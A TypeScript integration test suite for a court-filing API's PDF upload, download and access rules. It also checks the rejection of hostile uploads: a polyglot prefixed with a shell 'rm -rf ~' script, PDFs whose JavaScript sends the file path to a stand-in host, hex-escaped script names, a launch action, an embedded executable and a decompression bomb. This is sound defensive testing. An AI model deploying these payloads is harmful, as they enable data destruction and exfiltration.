/**
 * Uploading, reading and downloading documents through the real API (real
 * PostgreSQL, local-disk store in a throwaway data dir), and hostile uploads:
 * each refused with the rule it broke, in English and Traditional Chinese,
 * leaving nothing in the store or the table. Test PDFs are made here with
 * pdf-lib; the limits are lowered through the environment (256 KB, 5 pages)
 * so no test sends megabytes.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { markDocumentsUsed } from '../../db/documents';
import { createPool, inTransaction } from '../../db/pool';
import { DOCUMENT_ID_PATTERN } from '../../domain/documents/upload-rules';
import { startDocumentTestStack, type DocumentTestStack } from '../support/document-stack';
import { SEEDED, type SignedIn, type TestStack } from '../support/stack';

const MAX_BYTES = 256 * 1024;
const MAX_PAGES = 5;

let stack: TestStack;
let dataDir: string;
let filer: SignedIn;
let stranger: SignedIn;
let officer: SignedIn;
let documents: DocumentTestStack;

beforeAll(async () => {
  documents = await startDocumentTestStack('courtflow-documents-', { maxBytes: MAX_BYTES, maxPages: MAX_PAGES });
  ({ stack, dataDir } = documents);
  filer = await stack.newIndividual('Chan Tai Man');
  stranger = await stack.newIndividual('Ho Ka Ming');
  officer = await stack.officer();
});
afterAll(async () => {
  await documents?.stop();
});

// ---- test PDFs, made with pdf-lib ----

async function aPdf(options: { pages?: number; text?: string; useObjectStreams?: boolean; change?: (doc: PDFDocument) => void | Promise<void> } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 0; i < (options.pages ?? 1); i++) {
    doc.addPage([595, 842]).drawText(`${options.text ?? 'Writ of possession (draft for approval)'} - page ${i + 1}`, { x: 50, y: 780, size: 12, font });
  }
  await options.change?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: options.useObjectStreams ?? true }));
}

const withOpenAction = (action: Record<string, unknown>) => (doc: PDFDocument) => {
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj(action as never));
};

// ---- calls ----

interface Answer {
  status: number;
  headers: Headers;
  body: Record<string, unknown>;
}

async function upload(content: Uint8Array, options: { as?: SignedIn; filename?: string | null; disposition?: string; contentType?: string } = {}): Promise<Answer> {
  const disposition = options.disposition ?? (options.filename === null ? undefined : `attachment; filename="${options.filename ?? 'writ.pdf'}"`);
  const res = await fetch(`${stack.baseUrl}/api/v1/documents`, {
    method: 'POST',
    headers: {
      'content-type': options.contentType ?? 'application/pdf',
      ...(disposition === undefined ? {} : { 'content-disposition': disposition }),
      ...(options.as ?? filer).headers,
    },
    body: content,
  });
  const text = await res.text();
  return { status: res.status, headers: res.headers, body: (text ? JSON.parse(text) : {}) as Record<string, unknown> };
}

const getJson = async (url: string, as: SignedIn) => {
  const res = await fetch(`${stack.baseUrl}${url}`, { headers: as.headers });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
};

// ---- what is kept ----

const documentsRoot = () => path.join(dataDir, 'documents');

/** Every stored object: files under <root>/ab/cd/, the working folders (.tmp, .incoming) aside. */
function storedObjects(): string[] {
  const root = documentsRoot();
  const found: string[] = [];
  const walk = (dir: string, depth: number) => {
    let entries: string[];
    try {
      entries = readdirSync(dir);
    } catch {
      return;
    }
    for (const entry of entries) {
      if (depth === 0 && entry.startsWith('.')) continue;
      const full = path.join(dir, entry);
      if (statSync(full).isDirectory()) walk(full, depth + 1);
      else found.push(path.relative(root, full));
    }
  };
  walk(root, 0);
  return found.sort();
}

const workingFiles = () => ['.incoming', '.tmp'].flatMap((dir) => {
  try {
    return readdirSync(path.join(documentsRoot(), dir));
  } catch {
    return [];
  }
});

const rowCount = async () => Number((await stack.db.pool.query<{ n: string }>('SELECT count(*) AS n FROM documents')).rows[0]?.n);

/** Sends `content`, expects the refusal, and checks that nothing was kept. */
async function expectRefused(content: Uint8Array, status: number, rule: string, options: Parameters<typeof upload>[1] = {}): Promise<Answer> {
  const [rowsBefore, storedBefore] = [await rowCount(), storedObjects()];
  const answer = await upload(content, options);
  expect([rule, answer.status]).toEqual([rule, status]);
  expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  const errors = answer.body.errors as { field: string; rule: string; message: string }[];
  expect(errors).toEqual([expect.objectContaining({ field: '(body)', rule })]);
  const localised = answer.body.localisedDetail as { en: string; 'zh-Hant': string };
  expect(localised.en).toBe(answer.body.detail);
  expect(localised['zh-Hant']).toMatch(/[\u4e00-\u9fff]/);
  expect(await rowCount()).toBe(rowsBefore);
  expect(storedObjects()).toEqual(storedBefore);
  expect(workingFiles()).toEqual([]);
  return answer;
}

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

describe('uploading a good PDF', () => {
  it('when a filer uploads a PDF, then 201 with its id, SHA-256, size and pages; it is stored once, 0600, under its hash', async () => {
    const pdf = await aPdf({ pages: 2 });
    const answer = await upload(pdf, { filename: 'writ-of-possession.pdf' });
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({
      filename: 'writ-of-possession.pdf',
      contentType: 'application/pdf',
      bytes: pdf.length,
      pages: 2,
      sha256: sha256(pdf),
      status: 'uploaded',
    });
    const id = String(answer.body.id);
    expect(id).toMatch(DOCUMENT_ID_PATTERN);
    expect(answer.headers.get('location')).toBe(`/api/v1/documents/${id}`);
    const key = sha256(pdf);
    const file = path.join(documentsRoot(), key.slice(0, 2), key.slice(2, 4), key);
    expect(readFileSync(file)).toEqual(pdf);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const { rows } = await stack.db.pool.query('SELECT uploaded_by, store, store_key, status FROM documents WHERE id = $1', [id]);
    expect(rows).toEqual([{ uploaded_by: filer.id, store: 'local', store_key: key, status: 'uploaded' }]);
    expect(workingFiles()).toEqual([]);
  });

  it('when the same bytes are uploaded twice, then two documents (each its own id and upload) share one stored copy', async () => {
    const pdf = await aPdf({ text: 'Praecipe' });
    const first = await upload(pdf, { filename: 'praecipe.pdf' });
    const second = await upload(pdf, { filename: 'praecipe (copy).pdf' });
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(first.body.id).not.toBe(second.body.id);
    expect(first.body.sha256).toBe(second.body.sha256);
    const key = sha256(pdf);
    expect(storedObjects().filter((f) => f.endsWith(key))).toHaveLength(1);
    const { rows } = await stack.db.pool.query('SELECT count(*)::int AS n FROM documents WHERE sha256 = $1', [key]);
    expect(rows[0]).toEqual({ n: 2 });
  });

  it('when the name is Chinese (RFC 8187) or a Windows path, then it is kept readable and safe', async () => {
    const chinese = await upload(await aPdf({ text: 'Letter' }), { disposition: `attachment; filename="letter.pdf"; filename*=UTF-8''${encodeURIComponent('函件（連命令）.pdf')}` });
    expect([chinese.status, chinese.body.filename]).toEqual([201, '函件（連命令）.pdf']);
    const windows = await upload(await aPdf({ text: 'Order' }), { filename: 'C:\\\\Users\\\\chan\\\\order' });
    expect([windows.status, windows.body.filename]).toEqual([201, 'order.pdf']);
  });

  it('when a PDF has NUL bytes after its end marker, then neither the JSON nor the storable-text rules get in the way', async () => {
    const pdf = Buffer.concat([await aPdf({ text: 'Affidavit' }), Buffer.alloc(16)]);
    const answer = await upload(pdf);
    expect([answer.status, answer.body.bytes]).toEqual([201, pdf.length]);
  });

  it('when the registry officer uploads, then it is accepted too; an adjudicator may not upload (403)', async () => {
    expect((await upload(await aPdf({ text: 'Sealed writ' }), { as: officer })).status).toBe(201);
    const adjudicator = await stack.login(SEEDED.adjudicator.username, SEEDED.adjudicator.password);
    expect((await upload(await aPdf(), { as: adjudicator })).status).toBe(403);
  });
});

describe('reading a document', () => {
  let id: string;
  let pdf: Buffer;
  beforeAll(async () => {
    pdf = await aPdf({ pages: 3, text: 'Judgment' });
    const answer = await upload(pdf, { filename: '判決書.pdf', disposition: `attachment; filename*=UTF-8''${encodeURIComponent('判決書.pdf')}` });
    expect(answer.status).toBe(201);
    id = String(answer.body.id);
  });

  it('when the uploader asks, then the metadata, and the content byte for byte with its digest and name', async () => {
    const meta = await getJson(`/api/v1/documents/${id}`, filer);
    expect(meta.status).toBe(200);
    expect(meta.body).toMatchObject({ id, pages: 3, bytes: pdf.length, sha256: sha256(pdf), links: { self: `/api/v1/documents/${id}`, content: `/api/v1/documents/${id}/content` } });
    const res = await fetch(`${stack.baseUrl}/api/v1/documents/${id}/content`, { headers: filer.headers });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(pdf).digest('base64')}:`);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="___.pdf"; filename*=UTF-8''${encodeURIComponent('判決書.pdf')}`);
    expect(Buffer.from(await res.arrayBuffer())).toEqual(pdf);
  });

  it('when a download is made, then the audit log records who read which document', async () => {
    const { rows } = await stack.db.pool.query("SELECT actor_id FROM audit_log WHERE action = 'document.content.read' AND target = $1", [`document:${id}`]);
    expect(rows).toContainEqual({ actor_id: filer.id });
  });

  it("when another user asks for someone else's document, then 404 for the metadata and the content, as for an id never issued", async () => {
    const missing = 'DOC-0000-0000-0000';
    for (const url of [`/api/v1/documents/${id}`, `/api/v1/documents/${id}/content`, `/api/v1/documents/${missing}`, `/api/v1/documents/${missing}/content`]) {
      const answer = await getJson(url, stranger);
      expect([url, answer.status, answer.body.type]).toEqual([url, 404, 'urn:courtflow:problem:not-found']);
    }
    const adjudicator = await stack.login(SEEDED.adjudicator.username, SEEDED.adjudicator.password);
    expect((await getJson(`/api/v1/documents/${id}`, adjudicator)).status).toBe(404);
    expect((await fetch(`${stack.baseUrl}/api/v1/documents/${id}`)).status).toBe(404);
  });

  it('when the registry officer asks, then they may read any document', async () => {
    expect((await getJson(`/api/v1/documents/${id}`, officer)).status).toBe(200);
  });

  it('when the id is malformed, then 400 naming the parameter', async () => {
    const answer = await getJson('/api/v1/documents/not-an-id', filer);
    expect(answer.status).toBe(400);
    expect(answer.body.errors).toEqual([expect.objectContaining({ field: 'documentId' })]);
  });
});

describe('hostile uploads, each refused with nothing kept', () => {
  it('when a file that is not a PDF is named .pdf, then not-a-pdf', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);
    await expectRefused(png, 422, 'not-a-pdf', { filename: 'writ.pdf' });
    await expectRefused(Buffer.from('<html><script>alert(1)</script></html>'), 422, 'not-a-pdf');
    // A polyglot: something else first, a PDF behind it. Readers would open it; we do not.
    await expectRefused(Buffer.concat([Buffer.from('#!/bin/sh\nrm -rf ~\n'), await aPdf()]), 422, 'not-a-pdf');
    await expectRefused(Buffer.alloc(0), 422, 'not-a-pdf');
  });

  it('when a PDF is cut short, then truncated; when its insides are garbage but it has both ends, then unreadable', async () => {
    const pdf = await aPdf({ pages: 2 });
    await expectRefused(pdf.subarray(0, Math.floor(pdf.length / 2)), 422, 'truncated');
    await expectRefused(Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n'), 422, 'unreadable');
    await expectRefused(Buffer.from('%PDF-1.7\n\u0000\u0001garbage (( << [ obj\n%%EOF'), 422, 'unreadable');
  });

  it('when the file is larger than the limit, then 413 too-large, whether or not its length was declared, and reading stopped there', async () => {
    const big = Buffer.concat([await aPdf(), Buffer.alloc(MAX_BYTES, 0x20), Buffer.from('%%EOF')]);
    const answer = await expectRefused(big, 413, 'too-large');
    expect(String((answer.body.localisedDetail as { en: string }).en)).toContain('256 KB');
    expect(answer.headers.get('connection')).toBe('close');

    // Chunked, no Content-Length: the body is counted as it streams in, and refused past the limit.
    const rowsBefore = await rowCount();
    const chunked = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = httpRequest(
        `${stack.baseUrl}/api/v1/documents`,
        { method: 'POST', headers: { ...filer.headers, 'content-type': 'application/pdf', 'content-disposition': 'attachment; filename="big.pdf"', 'transfer-encoding': 'chunked' } },
        (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (chunk: string) => (body += chunk));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      req.on('error', reject);
      req.write(Buffer.from('%PDF-1.7\n'));
      // A little past the limit, in chunks; the rest of a real attacker's stream would never be read.
      for (let sent = 0; sent < MAX_BYTES + 64 * 1024; sent += 16 * 1024) req.write(Buffer.alloc(16 * 1024, 0x20));
      req.end();
    });
    expect(chunked.status).toBe(413);
    expect(JSON.parse(chunked.body)).toMatchObject({ errors: [{ field: '(body)', rule: 'too-large' }] });
    expect(await rowCount()).toBe(rowsBefore);
    expect(workingFiles()).toEqual([]);
  });

  it('when the document has more pages than the limit, then too-many-pages, saying how many it has', async () => {
    const answer = await expectRefused(await aPdf({ pages: MAX_PAGES + 1 }), 422, 'too-many-pages');
    expect(String(answer.body.detail)).toContain(`${MAX_PAGES + 1} pages`);
    expect((await upload(await aPdf({ pages: MAX_PAGES }))).status).toBe(201);
  });

  it('when a PDF runs JavaScript on opening (/OpenAction), in an object stream or not, then active-content naming javascript', async () => {
    const script = withOpenAction({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.invalid/" + this.path)') });
    for (const useObjectStreams of [true, false]) {
      const answer = await expectRefused(await aPdf({ change: script, useObjectStreams }), 422, 'active-content');
      expect(answer.body.activeContent).toEqual(['javascript']);
    }
  });

  it('when the script hides behind a hex-escaped name (/J#61vaScript, /#4aS), then it is found all the same', async () => {
    const plain = await aPdf({ change: withOpenAction({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }), useObjectStreams: false });
    const disguised = Buffer.from(plain.toString('latin1').replace('/S /JavaScript', '/S /J#61vaScript').replace('/JS (', '/#4aS ('), 'latin1');
    expect(disguised.toString('latin1')).toContain('/J#61vaScript');
    expect(disguised.toString('latin1')).toContain('/#4aS (');
    expect((await expectRefused(disguised, 422, 'active-content')).body.activeContent).toEqual(['javascript']);
  });

  it('when a page action, a document-level script, a launch action or a form submission is present, then each is refused', async () => {
    const pageAction = (doc: PDFDocument) => {
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(2)') } } as never));
    };
    const nameTree = (doc: PDFDocument) => {
      const script = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(3)') } as never));
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: { Names: [PDFString.of('init'), script] } } as never));
    };
    const cases: [string, (doc: PDFDocument) => void, string[]][] = [
      ['page /AA', pageAction, ['javascript']],
      ['/Names /JavaScript', nameTree, ['javascript']],
      ['/Launch', withOpenAction({ S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') }), ['launch']],
      ['/SubmitForm', withOpenAction({ S: 'SubmitForm', F: PDFString.of('https://example.invalid/collect') }), ['form-action']],
    ];
    for (const [what, change, kinds] of cases) {
      const answer = await expectRefused(await aPdf({ change }), 422, 'active-content');
      expect([what, answer.body.activeContent]).toEqual([what, kinds]);
    }
  });

  it('when the PDF carries an embedded file, then active-content naming embedded-file', async () => {
    const attached = await aPdf({
      change: async (doc) => {
        await doc.attach(Buffer.from('MZ this would be an executable'), 'invoice.exe', { mimeType: 'application/octet-stream' });
      },
    });
    expect((await expectRefused(attached, 422, 'active-content')).body.activeContent).toEqual(['embedded-file']);
  });

  it('when a harmless /OpenAction only opens the first page, then the document is accepted', async () => {
    const goTo = (doc: PDFDocument) => {
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, PDFName.of('Fit')]));
    };
    expect((await upload(await aPdf({ change: goTo }))).status).toBe(201);
  });

  it('when the PDF is encrypted, then encrypted', async () => {
    const encrypted = await aPdf({
      useObjectStreams: false,
      change: (doc) => {
        doc.context.trailerInfo.Encrypt = doc.context.register(
          doc.context.obj({ Filter: 'Standard', V: 1, R: 2, Length: 40, P: -3904, O: PDFString.of('x'.repeat(32)), U: PDFString.of('y'.repeat(32)) } as never),
        );
      },
    });
    // pdf-lib itself sees it as encrypted: the construction is sound.
    await expect(PDFDocument.load(encrypted)).rejects.toThrow(/encrypted/i);
    await expectRefused(encrypted, 422, 'encrypted');
  });

  it('when an object stream inflates to far more than the file (a decompression bomb), then unreadable, and the same shape inflating modestly is accepted', async () => {
    const bomb = (fill: number) => insertObjectStream(fill);
    expect((await upload(await bomb(1000))).status).toBe(201);
    const big = await bomb(80 * 1024 * 1024);
    expect(big.length).toBeLessThan(MAX_BYTES);
    await expectRefused(big, 422, 'unreadable');
  });
});

describe('what the request must say', () => {
  it('when the body is not sent as application/pdf, then 415 and nothing is read or kept', async () => {
    const before = await rowCount();
    const json = await upload(Buffer.from('{"file":"JVBERi0="}'), { contentType: 'application/json' });
    const form = await upload(await aPdf(), { contentType: 'multipart/form-data; boundary=x' });
    expect([json.status, form.status]).toEqual([415, 415]);
    expect(await rowCount()).toBe(before);
  });

  it('when no filename is given, then 400 naming Content-Disposition and the rule, in both languages', async () => {
    const before = await rowCount();
    const answer = await upload(await aPdf(), { filename: null });
    expect(answer.status).toBe(400);
    expect(answer.body.errors).toEqual([expect.objectContaining({ field: 'Content-Disposition', rule: 'filename-required' })]);
    expect((answer.body.localisedDetail as Record<string, string>)['zh-Hant']).toMatch(/[\u4e00-\u9fff]/);
    const badEncoding = await upload(await aPdf(), { disposition: "attachment; filename*=UTF-8''%E4%ZZ.pdf" });
    expect(badEncoding.status).toBe(400);
    expect(badEncoding.body.errors).toEqual([expect.objectContaining({ field: 'Content-Disposition', rule: 'rfc8187' })]);
    expect(await rowCount()).toBe(before);
  });

  it('when nobody is signed in, then 401 before a byte is read', async () => {
    const res = await fetch(`${stack.baseUrl}/api/v1/documents`, { method: 'POST', headers: { 'content-type': 'application/pdf' }, body: await aPdf() });
    expect(res.status).toBe(401);
  });
});

describe('the large-file path: upload first, then pick the document in a filing', () => {
  it("when a filing picks the uploader's documents, then they are marked used once; another's or a used one is not marked", async () => {
    const mine = String((await upload(await aPdf({ text: 'Writ for sealing' }))).body.id);
    const theirs = String((await upload(await aPdf({ text: 'Not yours' }), { as: stranger })).body.id);
    // As the application role, as a filing use-case would run it.
    const app = createPool(stack.db.appUrl, 1);
    try {
      const marked = await inTransaction(app, (tx) => markDocumentsUsed(tx, [mine, theirs], filer.id, 'FILING-TEST-1'));
      expect(marked).toEqual([mine]);
      expect(await inTransaction(app, (tx) => markDocumentsUsed(tx, [mine], filer.id, 'FILING-TEST-2'))).toEqual([]);
      expect((await getJson(`/api/v1/documents/${mine}`, filer)).body.status).toBe('used');
      expect((await getJson(`/api/v1/documents/${theirs}`, stranger)).body.status).toBe('uploaded');
      // What a document is never changes once the filer has seen its hash, and a used one stays used.
      await expect(app.query("UPDATE documents SET sha256 = repeat('0', 64), store_key = repeat('0', 64) WHERE id = $1", [theirs])).rejects.toThrow(/never change/);
      await expect(app.query("UPDATE documents SET status = 'uploaded', used_at = NULL, used_in = NULL WHERE id = $1", [mine])).rejects.toThrow(/already used/);
    } finally {
      await app.end();
    }
  });
});

describe('the OpenAPI document', () => {
  it('when read, then the upload takes an application/pdf body and names Content-Disposition, and the download answers application/pdf', async () => {
    type Op = { requestBody?: { content: Record<string, unknown> }; parameters: { name: string; in: string }[]; responses: Record<string, { content?: Record<string, unknown> }> };
    const doc = (await (await fetch(`${stack.baseUrl}/openapi.json`)).json()) as { paths: Record<string, Record<string, Op>> };
    const uploadOp = doc.paths['/api/v1/documents']?.post;
    expect(Object.keys(uploadOp?.requestBody?.content ?? {})).toEqual(['application/pdf']);
    expect(uploadOp?.parameters).toContainEqual(expect.objectContaining({ name: 'Content-Disposition', in: 'header' }));
    expect(Object.keys(uploadOp?.responses ?? {})).toEqual(expect.arrayContaining(['201', '400', '401', '403', '413', '415', '422']));
    const download = doc.paths['/api/v1/documents/{documentId}/content']?.get;
    expect(Object.keys(download?.responses['200']?.content ?? {})).toEqual(['application/pdf']);
    expect(doc.paths['/api/v1/documents/{documentId}']?.get?.responses['404']).toBeDefined();
  });
});

/**
 * A good PDF with one more indirect object inserted after its header: an
 * object stream holding one empty dictionary, `fill` zero bytes into its
 * decompressed content. Zeros compress about a thousandfold, so a fill of
 * 80 MB is an upload of under 100 KB.
 */
async function insertObjectStream(fill: number): Promise<Buffer> {
  const pdf = await aPdf({ useObjectStreams: false, text: `Object stream of ${fill}` });
  const header = '900 0 ';
  const content = deflateSync(Buffer.concat([Buffer.from(header), Buffer.alloc(fill), Buffer.from('<< >>')]));
  const object = Buffer.concat([
    Buffer.from(`901 0 obj\n<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  // After the header and its binary comment line: pdf-lib reads objects in order and needs no offsets.
  const firstObject = pdf.toString('latin1').search(/\n\d+ 0 obj/) + 1;
  return Buffer.concat([pdf.subarray(0, firstObject), object, pdf.subarray(firstObject)]);
}
